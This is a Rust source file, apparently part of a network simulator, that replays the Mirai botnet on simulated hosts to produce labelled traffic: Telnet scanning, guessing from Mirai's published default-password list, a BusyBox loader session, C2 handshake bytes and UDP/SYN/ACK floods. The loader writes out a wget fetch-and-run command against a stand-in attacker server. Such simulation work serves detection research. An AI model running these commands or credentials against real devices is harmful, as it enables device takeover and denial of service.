//! Mirai: default passwords on Telnet make a camera a bot, which looks for others and floods a target.
//!
//! Modelled on: M. Antonakakis and others, "Understanding the Mirai Botnet" (USENIX Security, 2017);
//! M. De Donno, N. Dragoni, A. Giaretta, A. Spognardi, "DDoS-Capable IoT Malwares: Comparative Analysis
//! and Mirai Investigation" (2018). From these: 23 and 2323 tried nine to one, the target's address as
//! sequence number, a shuffled list of some sixty default passwords, a loader that finds out by
//! `/bin/busybox ECCHI` where each answer ends, and a control connection of four bytes and keep-alives of
//! two a minute.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use model::Locality;

use super::{AttackKind, AttackStep, Script, anybody};
use crate::frame::{ACK, SYN, Tcp};
use crate::net::{Host, HostId, MILLI, NO_PROTOCOL, Net, Os, SECOND};
use crate::speak::{dns, http, telnet};

pub(crate) const KIND: AttackKind = AttackKind {
    name: "mirai",
    about: "a camera with a default password becomes a bot, looks for others and floods a target",
    scenes: &["home", "city"],
    benign: false,
    steps: &[
        AttackStep {
            name: "telnet-scan",
            about: "A bot elsewhere tries Telnet on ports 23 and 2323 of addresses at random; here one \
                    answers, since the router lets it in.",
            techniques: &["T1595.001", "T1046"],
        },
        AttackStep {
            name: "credential-guessing",
            about: "It tries user names and passwords that makers deliver their devices with, one \
                    connection each, until it is let in.",
            techniques: &["T1110.001", "T1078.001", "T0812"],
        },
        AttackStep {
            name: "loading",
            about: "A loader logs in with what was found, gets a shell, learns the processor from the head \
                    of a program and how files can be fetched, and has the bot's program fetched and \
                    started.",
            techniques: &["T1059.004", "T1082", "T0807"],
        },
        AttackStep {
            name: "binary-download",
            about: "The device fetches the bot's program for its processor from a server of the attacker.",
            techniques: &["T1105", "T1071.001"],
        },
        AttackStep {
            name: "command-and-control",
            about: "The bot looks up its master's name, connects to it on port 23, and keeps the connection \
                    alive with two bytes a minute, waiting for orders.",
            techniques: &["T1095", "T1571", "T0885"],
        },
        AttackStep {
            name: "scanning-in-turn",
            about: "The device now looks for others itself: SYNs to addresses at random, many a second, and \
                    what it finds is reported to port 48101.",
            techniques: &["T1046", "T0846", "T1595.001"],
        },
        AttackStep {
            name: "flood",
            about: "On its master's order the bot sends a target more than it can bear: UDP datagrams, \
                    SYNs and ACKs as fast as it can.",
            techniques: &["T1498.001", "T1499.001", "T0814"],
        },
    ],
    set_up,
};

/// Default user names and passwords of the published list.
const DEFAULTS: &[(&str, &str)] = &[
    ("root", "xc3511"),
    ("root", "admin"),
    ("admin", "admin"),
    ("root", "888888"),
    ("root", "xmhdipc"),
    ("root", "default"),
    ("root", "juantech"),
    ("root", "123456"),
    ("root", "54321"),
    ("support", "support"),
    ("admin", "password"),
    ("root", "root"),
    ("root", "12345"),
    ("user", "user"),
    ("root", "pass"),
    ("admin", "admin1234"),
    ("root", "1111"),
    ("admin", "smcadmin"),
    ("root", "666666"),
    ("root", "klv123"),
    ("service", "service"),
    ("supervisor", "supervisor"),
    ("guest", "12345"),
    ("ubnt", "ubnt"),
    ("root", "Zte521"),
    ("root", "hi3518"),
    ("root", "jvbzd"),
    ("root", "anko"),
    ("root", "7ujMko0vizxv"),
    ("root", "ikwb"),
    ("root", "dreambox"),
    ("root", "realtek"),
    ("tech", "tech"),
];
/// What the device was delivered with.
const RIGHT: (&str, &str) = ("root", "vizxv");
/// Attempts that fail before it is found.
const FAILURES: usize = 12;

const ECCHI: &str = "ECCHI: applet not found";
const PROGRAM: usize = 58_000;
/// Packets of each kind in the flood.
const FLOOD: u32 = 400;

fn set_up(net: &mut Net, script: Script) {
    let outside = |name: &str, last: u8| {
        Host::beyond(name, Locality::External, [198, 51, 100, last], Os::Linux).slow(30_000, 90_000)
    };
    let bot = net.add(outside("bot", 66));
    let loader = net.add(outside("loader", 67));
    let master = net.add(outside("master", 68));
    let names = net.add(outside("open-resolver", 53));
    let target = net.add(outside("target", 200));
    let victim = net.host(if net.has("recorder") { "recorder" } else { "camera-1" });

    script.act(net, ("telnet-scan", 0), (bot, &[victim]), move |net| {
        for turn in 0..6 {
            let port = if turn == 3 { 2_323 } else { 23 };
            knock(net, bot, net.v4(victim, bot), port, port == 23);
            net.pause_us(300_000, 1_200_000);
        }
    });
    script.act(net, ("credential-guessing", 8), (bot, &[victim]), move |net| {
        let mut list = DEFAULTS.to_vec();
        for place in 0..FAILURES {
            let other = net.rng.range(place as u64, list.len() as u64) as usize;
            list.swap(place, other);
            telnet::enter(net, bot, (victim, 23), list[place], None);
            net.pause_us(100_000, 500_000);
        }
        if let Some(conn) = telnet::enter(net, bot, (victim, 23), RIGHT, Some("# ")) {
            telnet::command(net, conn, "# ", "/bin/busybox ECCHI", ECCHI);
            net.close(conn);
        }
    });
    let download = script.stage(net, "binary-download", victim, &[victim]);
    script.act(net, ("loading", 25), (loader, &[victim]), move |net| {
        load(net, loader, victim, || download);
    });
    let talk = script.stage(net, "command-and-control", master, &[victim]);
    net.during(talk, |net| control(net, script, [victim, names, master, target]));
    let turn = script.stage(net, "scanning-in-turn", victim, &[victim]);
    net.during(turn, |net| {
        let mut found = 0_u32;
        net.every(script.at(40), 1_500 * MILLI, move |net| {
            for number in 0..6 {
                let ip = anybody(net);
                knock(net, victim, ip.into(), if number == 5 { 2_323 } else { 23 }, false);
                net.pause_us(5_000, 20_000);
            }
            found += 1;
            if found % 20 == 7 {
                report(net, victim, master);
            }
        });
    });
    script.act(net, ("flood", 75), (victim, &[target]), move |net| flood(net, victim, target));
}

/// A SYN as Mirai makes it: the sequence number is the address.
fn knock(net: &mut Net, from: HostId, to: IpAddr, port: u16, open: bool) {
    let seq = match to {
        IpAddr::V4(ip) => ip.to_bits(),
        IpAddr::V6(_) => 0,
    };
    net.probe(from, SocketAddr::new(to, port), seq, open);
}

/// The loader's session; `download` names the stage that what the device fetches belongs to.
fn load(net: &mut Net, loader: HostId, victim: HostId, download: impl Fn() -> usize) {
    let Some(conn) = telnet::enter(net, loader, (victim, 23), RIGHT, Some("# ")) else { return };
    let server = net.v4(loader, victim);
    for (command, output) in [
        ("enable", "-sh: enable: not found"),
        ("system", "-sh: system: not found"),
        ("shell", "-sh: shell: not found"),
        ("sh", ""),
        ("/bin/busybox ECCHI", ECCHI),
        ("/bin/busybox ps; /bin/busybox ECCHI", "  PID USER     COMMAND\r\n    1 root     init"),
        ("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", "tmpfs /var tmpfs rw 0 0"),
        (
            "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
            "BusyBox v1.16.1 multi-call binary.\r\ntftp: applet not found",
        ),
    ] {
        telnet::command(net, conn, "# ", command, output);
    }
    let fetch = format!("/bin/busybox wget http://{server}:80/bins/mirai.arm -O - > dvrHelper; ECCHI");
    net.client_says(conn, format!("{fetch}\r\n").as_bytes());
    net.settle(conn);
    net.during(download(), |net| {
        let request = http::get(&server.to_string(), "/bins/mirai.arm", "Wget", "");
        // The head of a program for the processor (ELF, 32 bits, ARM); the rest is chance.
        let mut program = b"\x7fELF\x01\x01\x01\x61\0\0\0\0\0\0\0\0\x02\0\x28\0".to_vec();
        program.extend(net.rng.bytes(PROGRAM));
        let answer = http::answer("200 OK", "Apache", "application/octet-stream", "", &program);
        http::fetch(net, victim, loader, 80, &request, &answer);
    });
    net.server_says(conn, format!("{fetch}\r\n{ECCHI}\r\n# ").as_bytes());
    let run = "/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.arm; /bin/busybox ECCHI";
    telnet::command(net, conn, "# ", run, "listening tun0");
    net.close(conn);
}

/// The bot's connection to its master: hello, its name, keep-alives, and once an order.
fn control(net: &mut Net, script: Script, [victim, names, master, target]: [HostId; 4]) {
    let order = script.at(74);
    let mut ordered = false;
    net.session(
        (script.at(34), u64::MAX, 60 * SECOND),
        move |net| {
            dns::lookup(net, victim, names, "cnc.changeme.example", net.v4(master, victim));
            let conn = net.connect(victim, master, 23, NO_PROTOCOL);
            net.client_says(conn, &[0, 0, 0, 1]);
            net.client_says(conn, b"\x0atelnet.arm");
            net.settle(conn);
            conn
        },
        move |net, conn| {
            net.exchange(*conn, &[0, 0], &[0, 0]);
            if !ordered && net.clock + 60 * SECOND >= net.start + order {
                ordered = true;
                // Length, seconds, kind of flood, one target of 32 bits, no options.
                if let IpAddr::V4(ip) = net.v4(target, victim) {
                    let seconds = [0, 0, 0, 60];
                    let order = [&[0, 13][..], &seconds, &[0, 1], &ip.octets(), &[32], &[0]].concat();
                    net.clock = net.clock.max(net.start + script.at(74));
                    net.server_says(*conn, &order);
                    net.settle(*conn);
                }
            }
        },
        |net, conn| net.close(conn),
    );
}

/// Tells the master of a device that let the bot in: address, port, user and password.
fn report(net: &mut Net, victim: HostId, master: HostId) {
    let conn = net.connect(victim, master, 48_101, NO_PROTOCOL);
    let ip: Ipv4Addr = anybody(net);
    let found = [&[0][..], &ip.octets(), &[0, 23], b"\x04root\x06xc3511"].concat();
    net.client_says(conn, &found);
    net.close(conn);
}

fn flood(net: &mut Net, victim: HostId, target: HostId) {
    let (own, to) = (net.v4(victim, target), net.v4(target, victim));
    net.meet(victim, to);
    for _ in 0..FLOOD {
        let [from, port] = [(); 2].map(|()| net.rng.range(30_000, 32_000) as u16);
        let mut payload = net.rng.bytes(512);
        // Chance must not look like a protocol.
        payload[..8].fill(0);
        net.udp(victim, SocketAddr::new(own, from), SocketAddr::new(to, port), &payload);
        net.pause_us(500, 3_000);
    }
    let to = SocketAddr::new(to, 80);
    for flags in [SYN, ACK] {
        for number in 0..FLOOD {
            let src = SocketAddr::new(own, net.port(victim));
            let ack = if flags == ACK { net.rng.u32() } else { 0 };
            let seq = net.rng.u32();
            let window = net.rng.u16();
            net.lone(victim, src, to, Tcp { seq, ack, flags, window, options: &[] });
            // The target answers as long as it can.
            if flags == SYN && number < FLOOD / 8 {
                let (own, ack) = (net.rng.u32(), seq.wrapping_add(1));
                let answer = Tcp { seq: own, ack, flags: SYN | ACK, window: 64_240, options: &[] };
                net.lone(target, to, src, answer);
            }
            net.pause_us(300, 2_000);
        }
    }
}
